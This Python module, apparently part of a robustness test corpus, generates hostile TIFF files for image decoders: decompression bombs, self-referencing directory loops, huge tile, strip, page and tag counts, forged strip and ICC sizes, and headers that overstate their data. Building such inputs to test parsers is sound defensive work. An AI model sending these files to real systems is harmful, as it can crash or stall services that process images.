"""Hostile TIFF."""

from __future__ import annotations

import struct
from collections.abc import Sequence
from io import BytesIO

from PIL import Image

from bombs.register import SIDE_PX, bomb, saved, zeros

SHORT, LONG, UNDEFINED = 3, 4, 7


WIDTH, HEIGHT, BITS, COMPRESSION, PHOTOMETRIC, STRIPS, SAMPLES_TAG, ROWS, COUNTS = (
    256, 257, 258, 259, 262, 273, 277, 278, 279,
)  # fmt: skip


TILE_WIDTH, TILE_HEIGHT, TILES, TILE_COUNTS, EXTRA, ICC = 322, 323, 324, 325, 338, 34675


LZW, DEFLATE = 5, 8


def tiff(tags: dict[int, int | Sequence[int]], content: bytes = b"") -> bytes:
    """Give a TIFF of one directory: `content` at 8, then lists of longs, then the tags."""
    lists, entries, at = bytearray(), bytearray(), 8 + len(content)
    for tag, value in sorted(tags.items()):
        if not isinstance(value, int) and len(value) == 1:
            (value,) = value
        if isinstance(value, int):
            entries += struct.pack("<HHII", tag, LONG, 1, value)
        else:
            entries += struct.pack("<HHII", tag, LONG, len(value), at + len(lists))
            lists += struct.pack(f"<{len(value)}I", *value)
    directory = struct.pack("<H", len(tags)) + bytes(entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", at + len(lists)) + content + bytes(lists) + directory


def strips(
    side_px: int, rows: int, packed: bytes, compression: int, samples: int = 3, bits: int = 8
) -> dict[int, int | Sequence[int]]:
    """Give the tags of a square all of whose strips are the same bytes."""
    count = -(-side_px // rows)
    return {
        WIDTH: side_px, HEIGHT: side_px, BITS: [bits] * samples if samples > 1 else bits,
        COMPRESSION: compression, PHOTOMETRIC: 2 if samples > 2 else 1, STRIPS: [8] * count,
        SAMPLES_TAG: samples, ROWS: rows, COUNTS: [len(packed)] * count,
    }  # fmt: skip


def flat_tiff(side_px: int, rows: int, samples: int = 3, bits: int = 8, **more: int) -> bytes:
    packed = zeros(side_px * rows * samples * bits // 8)
    return tiff(strips(side_px, rows, packed, DEFLATE, samples, bits), packed)


@bomb(".tif")
def tiff_deflate() -> bytes:
    """100 megapixels, every strip the same bytes."""
    return flat_tiff(SIDE_PX, 99)


@bomb(".tif")
def tiff_one_strip() -> bytes:
    """49 megapixels in one strip."""
    return flat_tiff(7_000, 7_000)


@bomb(".tif")
def tiff_grey() -> bytes:
    """100 megapixels of grey in one strip."""
    return flat_tiff(SIDE_PX, SIDE_PX, samples=1)


@bomb(".tif")
def tiff_16_bit() -> bytes:
    """64 megapixels of 16-bit grey."""
    return flat_tiff(8_000, 80, samples=1, bits=16)


@bomb(".tif")
def tiff_float() -> bytes:
    """49 megapixels of floats."""
    packed = zeros(7_000 * 70 * 4)
    tags = strips(7_000, 70, packed, DEFLATE, 1, 32) | {339: 3}
    return tiff(tags, packed)


@bomb(".tif")
def tiff_planes() -> bytes:
    """12 megapixels of 16-bit colour, plane by plane, predicted."""
    packed = zeros(3_500 * 35 * 2)
    tags = strips(3_500, 35, packed, DEFLATE, 3, 16) | {284: 2, 317: 2}
    tags |= {STRIPS: [8] * 300, COUNTS: [len(packed)] * 300}
    return tiff(tags, packed)


@bomb(".tif")
def tiff_floats() -> bytes:
    """20 megapixels of float colour, each float in four parts."""
    packed = zeros(4_500 * 45 * 12)
    return tiff(strips(4_500, 45, packed, DEFLATE, 3, 32) | {339: [3] * 3, 317: 3}, packed)


@bomb(".tif")
def tiff_cmyk() -> bytes:
    """49 megapixels of four inks."""
    packed = zeros(7_000 * 70 * 4)
    return tiff(strips(7_000, 70, packed, DEFLATE, 4) | {PHOTOMETRIC: 5}, packed)


@bomb(".tif")
def tiff_rgba() -> bytes:
    """49 transparent megapixels."""
    packed = zeros(7_000 * 70 * 4)
    return tiff(strips(7_000, 70, packed, DEFLATE, 4) | {EXTRA: 2}, packed)


@bomb(".tif")
def tiff_lzw() -> bytes:
    """64 megapixels by LZW, every strip the same bytes."""
    strip = saved(Image.new("RGB", (8_000, 80)), "TIFF", compression="tiff_lzw", strip_size=2**30)
    with Image.open(BytesIO(strip)) as image:
        at, size = image.tag_v2[STRIPS][0], image.tag_v2[COUNTS][0]
    packed = strip[at : at + size]
    return tiff(strips(8_000, 80, packed, LZW), packed)


@bomb(".tif")
def tiff_huge_tile() -> bytes:
    """A picture of 64×64 in one tile of 16,384×16,384."""
    packed = zeros(16_384 * 16_384 * 3)
    tags = strips(64, 64, packed, DEFLATE)
    for tag in (STRIPS, ROWS, COUNTS):
        del tags[tag]
    tile = {TILE_WIDTH: 16_384, TILE_HEIGHT: 16_384, TILES: 8, TILE_COUNTS: len(packed)}
    return tiff(tags | tile, packed)


@bomb(".tif")
def tiff_tiles() -> bytes:
    """25 megapixels in 100,000 tiles of 16×16, all the same one."""
    packed = zeros(16 * 16 * 3)
    tags = strips(5_000, 5_000, packed, DEFLATE)
    for tag in (STRIPS, ROWS, COUNTS):
        del tags[tag]
    count = 313**2
    tile = {TILE_WIDTH: 16, TILE_HEIGHT: 16, TILES: [8] * count, TILE_COUNTS: [len(packed)] * count}
    return tiff(tags | tile, packed)


@bomb(".tif")
def tiff_strips_said() -> bytes:
    """Four thousand million strips, as a tag says."""
    data = bytearray(flat_tiff(64, 64))
    at = data.rindex(struct.pack("<HH", STRIPS, LONG)) + 4
    data[at : at + 4] = b"\xff" * 4
    return bytes(data)


@bomb(".tif")
def tiff_strips() -> bytes:
    """A million strips for 64 rows."""
    packed = zeros(64 * 3)
    tags = strips(64, 1, packed, DEFLATE)
    return tiff(tags | {STRIPS: [8] * 1_000_000, COUNTS: [len(packed)] * 1_000_000}, packed)


@bomb(".tif")
def tiff_tags() -> bytes:
    """65,535 tags, as many as there can be."""
    packed = zeros(64 * 64 * 3)
    more = dict.fromkeys(range(1, 65536), 1)
    return tiff(more | strips(64, 64, packed, DEFLATE), packed)


@bomb(".tif")
def tiff_loop() -> bytes:
    """A directory that names itself as the next."""
    data = flat_tiff(64, 64)
    return data[:-4] + data[4:8]


@bomb(".tif")
def tiff_directories() -> bytes:
    """Ten thousand pages of one pixel."""
    return pages_of_one(10_000)


@bomb(".tif")
def tiff_more_directories() -> bytes:
    """A hundred thousand pages of one pixel."""
    return pages_of_one(100_000)


@bomb(".tif#9999")
def tiff_last_directory() -> bytes:
    """Ten thousand pages of one pixel, of which nearly the last is asked for."""
    return pages_of_one(10_000)


def pages_of_one(count: int) -> bytes:
    tags = strips(1, 1, bytes(3), 1)
    tags = {tag: value[0] if isinstance(value, list) else value for tag, value in tags.items()}
    entries = b"".join(struct.pack("<HHII", tag, LONG, 1, tags[tag]) for tag in sorted(tags))
    size = 2 + len(entries) + 4
    made = bytearray(b"II*\0" + struct.pack("<I", 12) + bytes(4))
    for at in range(count):
        following = 12 + (at + 1) * size if at + 1 < count else 0
        made += struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)
    return bytes(made)


@bomb(".tif")
def tiff_samples() -> bytes:
    """65,535 samples for each pixel."""
    return tiff(strips(64, 64, bytes(9), 1) | {SAMPLES_TAG: 65_535}, bytes(9))


@bomb(".tif")
def tiff_icc() -> bytes:
    """A colour profile that begins as one and says that it has 4 GB."""
    data = tiff(strips(64, 64, bytes(9), DEFLATE) | {ICC: 8}, bytes(9))
    entry = struct.pack("<HHII", ICC, LONG, 1, 8)
    return data.replace(entry, struct.pack("<HHII", ICC, UNDEFINED, 2**32 - 1, 8))


@bomb(".tif")
def tiff_less_data() -> bytes:
    """49 megapixels in the header, nine bytes in the file."""
    return tiff(strips(7_000, 7_000, bytes(9), 1), bytes(9))
